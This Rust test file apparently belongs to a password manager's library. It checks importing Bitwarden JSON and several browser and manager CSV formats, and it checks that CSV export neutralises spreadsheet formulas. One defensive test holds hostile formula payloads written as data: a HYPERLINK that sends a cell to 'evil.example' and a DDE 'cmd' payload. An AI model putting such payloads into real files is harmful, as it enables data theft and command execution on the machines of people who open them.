//! Bitwarden JSON and password-manager CSV flavours (real header lines), Shift_JIS, quoted newlines, bad rows.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;

use noren_core::credential::{Category, Credential, CredentialInput};
use noren_core::crypto::KdfParams;
use noren_core::import::{self, OnDuplicate};
use noren_core::import_formats::{self, Mapping};
use noren_core::{Error, SecretString, Store};

const FAST: KdfParams = KdfParams { m_kib: 256, t: 1, p: 1 };

const BITWARDEN: &str = r#"{
  "encrypted": false,
  "folders": [{ "id": "f1", "name": "メール" }],
  "items": [
    { "id": "a", "folderId": "f1", "type": 1, "name": "受付メール", "notes": "IMAP 993\nSMTP 465",
      "login": { "uris": [{ "match": null, "uri": "https://mail.example.jp" }], "username": "info@sakura.example.jp",
                 "password": "bw-pass-2", "totp": "JBSWY3DPEHPK3PXP" },
      "fields": [{ "name": "PIN", "value": "1234", "type": 1 }],
      "passwordHistory": [{ "lastUsedDate": "2025-01-01T00:00:00.000Z", "password": "bw-pass-1" }],
      "creationDate": "2024-01-01T00:00:00.000Z", "revisionDate": "2025-06-01T00:00:00.000Z" },
    { "id": "b", "folderId": null, "type": 2, "name": "Wi-Fi", "notes": "SSID sakura / pass xyz", "secureNote": { "type": 0 } },
    { "id": "c", "folderId": null, "type": 3, "name": "店のカード", "card": { "cardholderName": "SAKURA", "brand": "Visa", "number": "4111111111111111", "expMonth": "12", "expYear": "2028", "code": "123" } },
    { "id": "d", "folderId": null, "type": 4, "name": "身分証", "identity": {} }
  ]
}"#;

fn store(dir: &tempfile::TempDir) -> Store {
    Store::init_with(&dir.path().join("s"), &SecretString::new("store passphrase"), FAST, chrono::Utc::now()).unwrap()
}

#[test]
fn bitwarden_logins_notes_cards() {
    let (c, skipped) = import_formats::bitwarden_json(BITWARDEN.as_bytes()).unwrap();
    assert_eq!(c.len(), 3);
    assert_eq!(skipped.len(), 1, "the identity item is reported");
    let tmp = tempfile::tempdir().unwrap();
    let st = store(&tmp);
    let r = import::commit(&st, &c, OnDuplicate::Skip, common::clock()).unwrap();
    assert_eq!(r.imported, 3);
    let all: Vec<Credential> = st.all().unwrap();
    let mail = all.iter().find(|x| x.name == "受付メール").unwrap();
    assert_eq!((mail.category, mail.password.expose(), mail.notes.as_str()), (Category::Email, "bw-pass-2", "IMAP 993\nSMTP 465"));
    assert_eq!(mail.history[0].password.expose(), "bw-pass-1");
    assert_eq!(mail.fields["PIN"], "1234");
    assert!(mail.totp.is_some() && mail.tags == vec!["メール"]);
    let card = all.iter().find(|x| x.name == "店のカード").unwrap();
    assert!(card.notes.contains("番号: 4111111111111111") && card.tags.contains(&"カード".to_string()));
    // Encrypted exports and non-JSON are refused clearly.
    let enc = import_formats::bitwarden_json(br#"{"encrypted": true, "items": []}"#).map(|_| ()).unwrap_err();
    assert!(enc.to_string().contains("encrypted"), "{enc}");
    assert!(matches!(import_formats::bitwarden_json(b"<html>"), Err(Error::Invalid { field: "file", .. })));
}

#[test]
fn csv_flavours_by_their_real_header_lines() {
    let cases: [(&str, &str, &str, Option<&str>); 5] = [
        ("Chrome / Edge", "name,url,username,password,note\nエキテン,https://www.ekiten.jp/,sakura@example.jp,ek-1,\"口コミ返信\n担当: 佐藤\"\n", "エキテン", Some("ek-1")),
        (
            "Firefox",
            "\"url\",\"username\",\"password\",\"httpRealm\",\"formActionOrigin\",\"guid\",\"timeCreated\",\"timeLastUsed\",\"timePasswordChanged\"\n\"https://www.hotpepper.jp\",\"sakura\",\"hp-2\",,\"https://www.hotpepper.jp\",\"{x}\",\"1700000000000\",\"1700000000000\",\"1700000000000\"\n",
            "hotpepper.jp",
            Some("hp-2"),
        ),
        (
            "Bitwarden CSV",
            "folder,favorite,type,name,notes,fields,reprompt,login_uri,login_username,login_password,login_totp\nSNS,,login,Instagram,,,0,https://instagram.com,sakura_s,ig-3,\n",
            "Instagram",
            Some("ig-3"),
        ),
        (
            "KeePassXC CSV",
            "\"Group\",\"Title\",\"Username\",\"Password\",\"URL\",\"Notes\",\"TOTP\",\"Icon\",\"Last Modified\",\"Created\"\n\"Root/サーバー\",\"レンタルサーバー\",\"sv123\",\"sv-4\",\"https://secure.example-host.jp\",\"\",\"\",\"0\",\"2024-01-01T00:00:00Z\",\"2024-01-01T00:00:00Z\"\n",
            "レンタルサーバー",
            Some("sv-4"),
        ),
        (
            "1Password",
            "Title,Website,Username,Password,One-time password,Favorite status,Archived status,Tags,Notes\nお名前.com,https://www.onamae.com,sakura,dm-5,,Not favorite,Not archived,ドメイン,\n",
            "お名前.com",
            Some("dm-5"),
        ),
    ];
    for (flavour, text, name, pw) in cases {
        let (f, c, skipped) = import_formats::csv(text.as_bytes(), None).unwrap();
        assert_eq!(f, flavour);
        assert!(skipped.is_empty(), "{flavour}: {skipped:?}");
        assert_eq!(c.len(), 1, "{flavour}");
        assert_eq!(c[0].input.name.as_deref(), Some(name), "{flavour}");
        assert_eq!(c[0].input.password.as_ref().map(|p| p.expose()), pw, "{flavour}");
    }
    // Quoted newline kept in Chrome's note; group decides the category in KeePassXC's CSV.
    let (_, c, _) = import_formats::csv(cases[0].1.as_bytes(), None).unwrap();
    assert_eq!(c[0].input.notes.as_deref(), Some("口コミ返信\n担当: 佐藤"));
    assert_eq!(c[0].input.category, Some(Category::Portal));
    let (_, c, _) = import_formats::csv(cases[3].1.as_bytes(), None).unwrap();
    assert_eq!(c[0].input.category, Some(Category::Server));
}

#[test]
fn generic_shift_jis_csv_with_a_mapping_and_bad_rows() {
    let text = "サービス,ログインID,パスワード,メモ\nホットペッパー,sakura,hp-pass,掲載\n,,orphan,\n\"予約システム\",admin,\"a,b\",\"1行目\n2行目\"\n";
    let (sjis, _, _) = encoding_rs::SHIFT_JIS.encode(text);
    assert!(matches!(import_formats::csv(&sjis, None), Err(Error::Invalid { field: "mapping", .. })), "unknown layout asks for a mapping");
    let map = Mapping {
        name: Some("サービス".into()),
        login: Some("ログインID".into()),
        password: Some("パスワード".into()),
        notes: Some("メモ".into()),
        ..Default::default()
    };
    let (_, c, skipped) = import_formats::csv(&sjis, Some(&map)).unwrap();
    assert_eq!(c.len(), 2);
    assert_eq!(skipped.len(), 1);
    assert_eq!(skipped[0].origin, "line 3");
    assert_eq!(c[1].input.password.as_ref().unwrap().expose(), "a,b");
    assert_eq!(c[1].input.notes.as_deref(), Some("1行目\n2行目"));
    let bad = Mapping { name: Some("ない列".into()), ..Default::default() };
    assert!(matches!(import_formats::csv(&sjis, Some(&bad)), Err(Error::Invalid { field: "mapping", .. })));
    // All or nothing: a row that fails validation is reported and the rest still go in one batch.
    let tmp = tempfile::tempdir().unwrap();
    let st = store(&tmp);
    let r = import::commit(&st, &c, OnDuplicate::Skip, common::clock()).unwrap();
    assert_eq!(r.imported, 2);
}

/// Refused with the line, not guessed: a quote never closed (the rest of the
/// file would have become one name) and a file in two encodings (part of it
/// would have become mojibake). A quote inside an unquoted value is text.
#[test]
fn unclosed_quotes_and_mixed_encodings_are_refused_with_the_line() {
    let unclosed =
        "name,url,username,password\nエキテン,\"https://www.ekiten.jp,sakura,pw1\nホットペッパー,https://beauty.hotpepper.jp,sakura,pw2\n";
    let e = import_formats::csv(unclosed.as_bytes(), None).map(|_| ()).unwrap_err();
    assert!(e.to_string().contains("line 2") && e.to_string().contains("never closed"), "{e}");
    let inches = "name,url,username,password\n24\" モニター,https://x.example.jp,a,\"p\"\"w\"\n";
    let (_, c, _) = import_formats::csv(inches.as_bytes(), None).unwrap();
    assert_eq!(c[0].input.name.as_deref(), Some("24\" モニター"));
    assert_eq!(c[0].input.password.as_ref().unwrap().expose(), "p\"w");
    let mut mixed = "name,url,username,password\n".as_bytes().to_vec();
    mixed.extend("エキテン,https://www.ekiten.jp,sakura,pw1\n".as_bytes());
    let (sjis, _, _) = encoding_rs::SHIFT_JIS.encode("ホットペッパー,https://beauty.hotpepper.jp,sakura,pw2\n");
    mixed.extend(sjis.iter());
    let e = import_formats::csv(&mixed, None).map(|_| ()).unwrap_err();
    assert!(e.to_string().contains("mixes two encodings (UTF-8 on line 2, Shift_JIS on line 3)"), "{e}");
    // One encoding throughout is read as before.
    let (all_sjis, _, _) =
        encoding_rs::SHIFT_JIS.encode("name,url,username,password\nホットペッパー,https://beauty.hotpepper.jp,sakura,pw2\n");
    assert_eq!(import_formats::csv(&all_sjis, None).unwrap().1.len(), 1);
}

/// A CSV export opened in a spreadsheet computes nothing: formula cells in
/// names, addresses, logins and notes are shown (leading '), a password only
/// when it acts as a formula, so generated ones still work elsewhere.
#[test]
fn csv_export_neutralises_formula_cells() {
    let tmp = tempfile::tempdir().unwrap();
    let st = store(&tmp);
    let mut hostile = CredentialInput {
        category: Some(noren_core::credential::Category::Other),
        name: Some("=HYPERLINK(\"https://evil.example/?\"&D2,\"click\")".into()),
        login: Some("@SUM(1+1)".into()),
        password: Some(noren_core::SecretString::new("+cmd|' /C calc'!A0")),
        notes: Some("-2+3".into()),
        ..Default::default()
    };
    noren_core::credential::add(&st, &hostile, common::clock()).unwrap();
    hostile.name = Some("生成したパスワード".into());
    hostile.login = Some("admin".into());
    hostile.password = Some(noren_core::SecretString::new("-Kp3$wQ9!nB7&xR2z"));
    hostile.notes = None;
    noren_core::credential::add(&st, &hostile, common::clock()).unwrap();
    let (text, marked) = import_formats::to_csv(&st.all::<Credential>().unwrap());
    assert_eq!(marked, 1);
    let mut rdr = csv::Reader::from_reader(text.as_bytes());
    let rows: Vec<Vec<String>> = rdr.records().map(|r| r.unwrap().iter().map(str::to_string).collect()).collect();
    let evil = rows.iter().find(|r| r[0].contains("HYPERLINK")).unwrap();
    for cell in evil {
        assert!(!cell.starts_with(['=', '+', '-', '@']), "{cell:?} would be computed");
    }
    assert_eq!(evil[3], "'+cmd|' /C calc'!A0");
    let generated = rows.iter().find(|r| r[0] == "生成したパスワード").unwrap();
    assert_eq!(generated[3], "-Kp3$wQ9!nB7&xR2z", "a generated password is written as it is");
}

/// Bitwarden dates that are no dates (2026-02-30) are said, and the old
/// passwords they dated are kept (dated by their entry), not dropped.
#[test]
fn bitwarden_dates_that_are_no_dates_are_said_and_lose_nothing() {
    let json = r#"{"encrypted":false,"folders":[],"items":[{"type":1,"name":"エキテン","creationDate":"2026-02-30T10:00:00Z","revisionDate":"2026-03-01T10:00:00Z",
        "login":{"uris":[{"uri":"https://www.ekiten.jp"}],"username":"sakura","password":"now-pw"},
        "passwordHistory":[{"lastUsedDate":"2025-13-01T00:00:00Z","password":"old-pw"}]}]}"#;
    let (c, skipped) = import_formats::bitwarden_json(json.as_bytes()).unwrap();
    assert!(skipped.is_empty());
    assert_eq!(c[0].history.len(), 1, "the old password is kept");
    assert_eq!(c[0].history[0].0.expose(), "old-pw");
    let tmp = tempfile::tempdir().unwrap();
    let st = store(&tmp);
    let p = import::preview(&st, "Bitwarden", &c, Vec::new(), common::clock()).unwrap();
    assert_eq!(p.changed.len(), 1);
    let said = &p.changed[0].reason;
    assert!(said.contains("creationDate \"2026-02-30T10:00:00Z\" is not a date") && said.contains("1 old password"), "{said}");
    let r = import::commit(&st, &c, OnDuplicate::Skip, common::clock()).unwrap();
    assert_eq!(r.imported, 1);
    assert_eq!(st.all::<Credential>().unwrap()[0].history.len(), 1);
}
